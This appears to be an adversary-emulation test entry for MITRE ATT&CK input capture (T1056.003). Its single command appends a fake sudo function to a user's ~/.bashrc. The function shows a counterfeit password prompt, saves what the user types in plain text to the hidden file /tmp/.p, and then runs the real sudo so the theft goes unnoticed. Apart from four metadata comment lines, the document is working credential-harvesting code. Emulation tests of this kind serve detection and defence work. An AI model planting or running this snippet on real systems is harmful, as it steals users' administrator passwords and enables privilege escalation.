# title: A user's .bashrc asks for the password of sudo
# technique: T1056.003 T1056
# needs: bash
# as: user

printf 'sudo() { read -rsp "[sudo] password for $USER: " p; echo "$p" >>/tmp/.p; command sudo "$@"; }\n' >>~/.bashrc
